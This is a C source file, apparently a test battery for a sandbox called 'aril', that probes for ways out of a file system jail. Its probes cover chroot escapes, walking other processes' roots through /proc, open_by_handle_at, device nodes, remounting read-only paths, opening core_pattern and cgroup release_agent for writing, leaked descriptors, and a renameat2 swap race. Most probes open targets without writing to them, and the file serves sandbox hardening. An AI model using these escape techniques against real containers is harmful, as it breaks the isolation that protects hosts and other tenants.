/* Attacks on the walls around files: the root, mounts, devices, descriptors. */
#include "attack.h"
#include <sys/statvfs.h>
#include <sys/sysmacros.h>
#include <time.h>

/* The file of outside: from the root, from here, and from as far up as it goes. */
static int up_to_secret(int at, const char *path)
{
	char up[PATH_MAX];
	if (reads_secret(at, path) == 0 || reads_secret(at, path + 1) == 0)
		return 0;
	int length = 0;
	for (int i = 0; i < 64; i++)
		length += sprintf(up + length, "../");
	snprintf(up + length, sizeof up - length, "%s", path + 1);
	return reads_secret(at, up);
}

/* The old way out of a chroot: a second one below the working directory, and up; and one that keeps a descriptor of the root. */
static void chroot_twice(char **words)
{
	int root = open("/", O_PATH | O_DIRECTORY);
	mkdir("/tmp/below", 0700);
	if (step(chroot("/tmp/below"), "chroot") < 0)
		return;
	tell(up_to_secret(AT_FDCWD, words[0]), "by the working directory");
	tell(up_to_secret(root, words[0]), "by a descriptor");
}

/* Every process's root. */
static void root_of(char **words)
{
	char path[PATH_MAX];
	struct dirent *entry;
	DIR *proc = opendir("/proc");
	while (proc && (entry = readdir(proc)) != NULL) {
		if (atoi(entry->d_name) == 0)
			continue;
		for (int kind = 0; kind < 2; kind++) {
			const char *link = kind ? "cwd" : "root";
			snprintf(path, sizeof path, "/proc/%s/%s", entry->d_name, link);
			int fd = open(path, O_PATH);
			if (fd < 0) {
				tell(-1, link);
				continue;
			}
			tell(up_to_secret(fd, words[0]), link);
			close(fd);
		}
	}
}

/* Takes away what is mounted, the last first: perhaps the old root lies below. */
static void uncover(char **words)
{
	char line[4096], points[256][256];
	int count = 0, gone = 0;
	FILE *mounts = fopen("/proc/self/mountinfo", "r");
	while (mounts && count < 256 && fgets(line, sizeof line, mounts))
		if (sscanf(line, "%*d %*d %*s %*s %255s", points[count]) == 1)
			count++;
	for (int last = count - 1; last >= 0; last--) {
		if (umount2(points[last], MNT_DETACH) < 0)
			continue;
		gone++;
		for (int at = 0; at < count; at++) {
			int point = open(points[at], O_PATH);
			if (point >= 0 && up_to_secret(point, words[0]) == 0)
				return tell(0, "below what was mounted");
			close(point);
		}
	}
	if (gone == 0)
		return tell(-1, "below what was mounted");
	/* What a process has for its root is not looked up again by itself. */
	if (chroot("/") == 0 && chdir("/") == 0)
		tell(up_to_secret(AT_FDCWD, words[0]), "below what was mounted");
}

/* Joining the mount namespace that this is leads to its own root. */
static void own_mounts(char **words)
{
	int own = open("/proc/self/ns/mnt", O_RDONLY);
	if (step(own < 0 ? -1 : setns(own, CLONE_NEWNS), "setns") < 0)
		return;
	tell(up_to_secret(AT_FDCWD, words[0]), "the namespace's root");
}

/* pivot_root once more, to see what is left as old root. */
static void pivot_back(char **words)
{
	mkdir("/tmp/new", 0700);
	if (step(mount("new", "/tmp/new", "tmpfs", 0, NULL), "mount") < 0)
		return;
	mkdir("/tmp/new/old", 0700);
	if (syscall(SYS_pivot_root, "/tmp/new", "/tmp/new/old") < 0)
		return tell(-1, "pivot_root");
	tell(0, "pivot_root");
	chdir("/");
	int old = open("/old", O_PATH);
	tell(up_to_secret(old, words[0]), "the old root");
	for (int turn = 0; turn < 4 && umount2("/old", MNT_DETACH) == 0; turn++)
		tell(up_to_secret(AT_FDCWD, words[0]), "below the old root");
}

/* open_by_handle_at(2) with a handle that was made outside, in hexadecimal digits, on any file system that is here. */
static void by_handle(char **words)
{
	struct { struct file_handle head; unsigned char bytes[MAX_HANDLE_SZ]; } handle = { 0 };
	const char *digits = words[1];
	unsigned value;
	handle.head.handle_type = atoi(words[0]);
	for (; sscanf(digits, "%2x", &value) == 1 && handle.head.handle_bytes < MAX_HANDLE_SZ; digits += 2)
		handle.head.f_handle[handle.head.handle_bytes++] = value;
	int mount = open("/", O_RDONLY | O_DIRECTORY);
	int fd = open_by_handle_at(mount, &handle.head, O_RDONLY);
	char text[64] = "";
	if (fd >= 0 && (read(fd, text, 63) <= 0 || strncmp(text, "outside", 7))) {
		errno = ENOMSG;
		fd = -1;
	}
	tell(fd, "the file's handle");
}

/* A handle as `by_handle` takes it: run outside. */
static void make_handle(char **words)
{
	struct { struct file_handle head; unsigned char bytes[MAX_HANDLE_SZ]; } handle = { 0 };
	int mount;
	handle.head.handle_bytes = MAX_HANDLE_SZ;
	if (name_to_handle_at(AT_FDCWD, words[0], &handle.head, &mount, 0) < 0)
		return tell(-1, "name_to_handle_at");
	printf("%d ", handle.head.handle_type);
	for (unsigned at = 0; at < handle.head.handle_bytes; at++)
		printf("%02x", handle.head.f_handle[at]);
	puts("");
}

/* A node of a device, and on mounts where that is dead, on one of its own. It is opened, and nothing is read. */
static void node(char **words)
{
	int kind = *words[0] == 'b' ? S_IFBLK : S_IFCHR;
	dev_t device = makedev(atoi(words[1]), atoi(words[2]));
	const char *places[] = { "/tmp", "/dev", "/dev/shm", "", "/tmp/own" };
	struct timespec now;
	/* Others may do the same at the same time. */
	clock_gettime(CLOCK_MONOTONIC, &now);
	mkdir("/tmp/own", 0700);
	step(mount("own", "/tmp/own", "tmpfs", 0, NULL), "mount");
	for (int at = 0; at < 5; at++) {
		char path[64], what[64];
		snprintf(path, sizeof path, "%s/node-%ld", places[at], now.tv_nsec);
		snprintf(what, sizeof what, "a node in %s/", places[at]);
		if (mknod(path, kind | 0666, device) < 0)
			tell(-1, what);
		else
			tell(open(path, O_RDONLY | O_NONBLOCK), what);
		unlink(path);
	}
}

/* Opens files that steer the kernel for writing, and writes nothing; where they are read-only, after a try to change that. */
static void for_writing(char **words)
{
	for (; *words; words++) {
		char path[PATH_MAX], *slash = path + snprintf(path, sizeof path, "%s", *words);
		int fd = open(*words, O_WRONLY);
		if (fd < 0 && errno == ENOENT) {
			tell_word("none", *words);
			continue;
		}
		for (; fd < 0 && errno == EROFS && slash; slash = strrchr(path, '/')) {
			*slash = 0;
			mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL);
			fd = open(*words, O_WRONLY);
		}
		tell(fd, *words);
		if (fd >= 0)
			close(fd);
	}
}

/* Remounts what is read-only as writable, by either call. */
static void remount(char **words)
{
	struct mount_attr writable = { .attr_clr = MOUNT_ATTR_RDONLY };
	for (; *words; words++) {
		tell(mount(NULL, *words, NULL, MS_REMOUNT | MS_BIND, NULL), *words);
		tell(syscall(SYS_mount_setattr, AT_FDCWD, *words, 0, &writable, sizeof writable), *words);
	}
}

/* Whether there is anything to be read in a file or directory that is hidden, also after what hides it was taken away. */
static const char *content(const char *path)
{
	struct stat found;
	if (stat(path, &found) < 0)
		return errno == ENOENT ? "none" : strerrorname_np(errno);
	if (S_ISDIR(found.st_mode)) {
		int entries = 0;
		DIR *directory = opendir(path);
		if (!directory)
			return strerrorname_np(errno);
		while (readdir(directory))
			entries++;
		closedir(directory);
		return entries > 2 ? "out" : "empty";
	}
	char byte;
	int fd = open(path, O_RDONLY | O_NONBLOCK);
	if (fd < 0)
		return strerrorname_np(errno);
	ssize_t count = read(fd, &byte, 1);
	close(fd);
	return count > 0 ? "out" : "empty";
}

static void masked(char **words)
{
	for (; *words; words++) {
		tell_word(content(*words), *words);
		if (umount2(*words, MNT_DETACH) == 0)
			tell_word(content(*words), *words);
	}
}

/* The same around the masks: on copies of the mount that do not have what lies over it. */
static void around_masks(char **words)
{
	char path[PATH_MAX];
	mkdir("/tmp/bare", 0700);
	int tree = syscall(SYS_open_tree, AT_FDCWD, "/proc", OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
	step(tree, "open_tree");
	step(mount("/proc", "/tmp/bare", NULL, MS_BIND, NULL), "bind");
	for (; *words; words++) {
		snprintf(path, sizeof path, "/tmp/bare/%s", *words);
		int fd = open(path, O_WRONLY);
		tell(fd < 0 ? openat(tree, *words, O_WRONLY) : fd, *words);
	}
}

/* The same in a new proc, and in a sysfs. */
static void anew(char **words)
{
	(void)words;
	mkdir("/tmp/new", 0700);
	if (step(mount("proc", "/tmp/new", "proc", 0, NULL), "mount proc") >= 0)
		tell(open("/tmp/new/sys/kernel/core_pattern", O_WRONLY), "core_pattern in a new proc");
	int context = syscall(SYS_fsopen, "proc", 0);
	if (step(context, "fsopen proc") < 0)
		return;
	syscall(SYS_fsconfig, context, FSCONFIG_CMD_CREATE, NULL, NULL, 0);
	int tree = syscall(SYS_fsmount, context, 0, 0);
	tell(tree < 0 ? -1 : openat(tree, "sys/kernel/core_pattern", O_WRONLY), "core_pattern in a detached proc");
}

/* A hierarchy of control groups with a program that the kernel is to run (cgroups(7), release_agent): opened, not written. */
static void release_agent(char **words)
{
	(void)words;
	mkdir("/tmp/groups", 0700);
	if (step(mount("groups", "/tmp/groups", "cgroup", 0, "none,name=aril-escape"), "mount cgroup") < 0)
		return;
	tell(open("/tmp/groups/release_agent", O_WRONLY), "release_agent");
	umount2("/tmp/groups", MNT_DETACH);
}

/* Everything below a directory that can be opened for writing; nothing is written. Each reason is told once. */
static void walk(const char *path, int depth, int *seen)
{
	struct dirent *entry;
	DIR *directory = depth < 6 ? opendir(path) : NULL;
	while (directory && (entry = readdir(directory)) != NULL) {
		char below[PATH_MAX];
		struct stat found;
		if (*entry->d_name == '.' && (!entry->d_name[1] || entry->d_name[1] == '.'))
			continue;
		if (snprintf(below, sizeof below, "%s/%s", path, entry->d_name) >= (int)sizeof below || lstat(below, &found) < 0)
			continue;
		if (S_ISDIR(found.st_mode))
			walk(below, depth + 1, seen);
		if (!S_ISREG(found.st_mode) || !(found.st_mode & 0222))
			continue;
		int fd = open(below, O_WRONLY | O_NONBLOCK);
		int reason = fd < 0 ? errno : 0;
		if (!seen[reason]++)
			tell(fd, "a file of a group");
		if (fd >= 0)
			close(fd);
	}
	if (directory)
		closedir(directory);
}

static void below(char **words)
{
	static int seen[4096];
	for (; *words; words++) {
		walk(*words, 0, seen);
		char made[PATH_MAX];
		snprintf(made, sizeof made, "%s/aril-escape", *words);
		int result = mkdir(made, 0700);
		tell(result, "a new group");
		if (result == 0)
			rmdir(made);
	}
}

/* By each descriptor that is open, and by the working directory, the file of outside. */
static void descriptors(char **words)
{
	for (int fd = 0; fd < 256; fd++) {
		char path[64];
		if (fcntl(fd, F_GETFD) < 0)
			continue;
		snprintf(path, sizeof path, "descriptor %d", fd);
		if (fd > 2 || up_to_secret(fd, words[0]) == 0)
			tell(up_to_secret(fd, words[0]), path);
	}
	tell(up_to_secret(AT_FDCWD, words[0]), "the working directory");
	for (int fd = 0; fd < 256; fd++) {
		char path[64];
		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		if (chdir(path) == 0)
			tell(up_to_secret(AT_FDCWD, words[0]), path);
	}
}

/* Joins the mount namespace that a descriptor names. */
static void join(char **words)
{
	if (step(setns(atoi(words[0]), CLONE_NEWNS), "setns") < 0)
		return;
	tell(up_to_secret(AT_FDCWD, words[1]), "the mount namespace of outside");
}

/* Swaps two names without end: a directory that aril is about to use, and a link that leads away. */
static void swap(char **words)
{
	for (;;)
		if (syscall(SYS_renameat2, AT_FDCWD, words[0], AT_FDCWD, words[1], 2 /* RENAME_EXCHANGE */) < 0)
			return tell(-1, "renameat2");
}

const struct attack files[] = {
	{ "chroot", chroot_twice },
	{ "root-of", root_of },
	{ "uncover", uncover },
	{ "own-mounts", own_mounts },
	{ "pivot-back", pivot_back },
	{ "handle", by_handle },
	{ "make-handle", make_handle },
	{ "node", node },
	{ "for-writing", for_writing },
	{ "remount", remount },
	{ "masked", masked },
	{ "around-masks", around_masks },
	{ "anew", anew },
	{ "release-agent", release_agent },
	{ "below", below },
	{ "descriptors", descriptors },
	{ "join", join },
	{ "swap", swap },
	{ 0 },
};
